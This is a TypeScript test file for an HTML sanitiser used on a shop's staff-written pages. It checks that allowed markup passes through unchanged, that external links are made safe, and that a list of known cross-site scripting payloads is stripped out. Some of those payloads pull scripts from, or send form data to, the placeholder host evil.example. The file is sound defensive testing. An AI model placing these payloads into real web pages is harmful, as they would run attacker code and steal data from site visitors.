import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanHtml } from './clean-html.ts';

describe('HTML written by staff keeps its allowed markup [T1]', () => {
  test.each([
    '<h2>Two</h2><p>Words, <strong>strong</strong> and <em>soft</em>.</p>',
    '<ul><li>One</li></ul><ol><li>Two</li></ol><blockquote><p>Said.</p></blockquote><hr />',
    '<p><a href="/delivery">Here</a>, <a href="mailto:x@mail.example">mail</a>, <a href="tel:+254199000100">call</a></p>',
    '<figure><img src="/upload/shop/a-1a2b-640.webp" alt="A tin" width="640" height="400" /></figure>',
    '<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1 &lt; 2</td></tr></tbody></table>',
  ])('%s', (html) => {
    expect(cleanHtml(html)).toBe(html);
  });

  test('and an external link opens a new tab that cannot control the shop’s tab [T22]', () => {
    expect(
      cleanHtml('<a href="https://elsewhere.example/" target="_self" rel="opener" onclick="x()">Out</a>'),
    ).toBe('<a href="https://elsewhere.example/" target="_blank" rel="noopener noreferrer">Out</a>');
  });
});

/** Known attacks with HTML: scripts, tracking pictures and unsafe links. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.gif" alt="x">',
  '<img src="/upload/../api/logout" alt="x">',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  java\nscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<p onclick="alert(1)" style="background:url(//evil.example)" class="x" id="root">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="pin"><button>Go</button></form>',
  '<style>@import url(//evil.example/x.css)</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="https://evil.example/">',
  '<video src=x onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p title="x" onmouseover="alert(1)">x',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<img srcset="//evil.example/x 1x" src="/upload/a.webp">',
];

const isHarmless = (html: string) =>
  !/<\s*\/?\s*(?:script|svg|math|iframe|object|embed|form|input|button|style|link|meta|base|video|template|textarea|noscript)/i.test(
    html,
  ) &&
  !/<[^>]*\s(?:on\w+|style|class|id|srcset|ping|srcdoc)\s*=/i.test(html) &&
  !/(?:href|src)="\s*(?:javascript|data|vbscript|\/\/)/i.test(html) &&
  !/src="(?!\/upload\/)/.test(html);

describe('Scripts, external resources and forms are not stored [T1]', () => {
  test.each(attacks)('%j', (html) => {
    const clean = cleanHtml(html);
    expect([clean, isHarmless(clean)]).toEqual([clean, true]);
    expect(cleanHtml(clean)).toBe(clean);
  });

  test('in any combination of fragments, and sanitising twice changes nothing', () => {
    const pieces = fc.array(
      fc.oneof(fc.constantFrom(...attacks), fc.constantFrom('<p>', '</p>', '"', '>', '&lt;', 'x')),
      {
        maxLength: 6,
      },
    );
    fc.assert(
      fc.property(pieces, (parts) => {
        const clean = cleanHtml(parts.join(''));
        expect([clean, isHarmless(clean)]).toEqual([clean, true]);
        expect(cleanHtml(clean)).toBe(clean);
      }),
      { numRuns: 300, seed: 2026 },
    );
  });
});
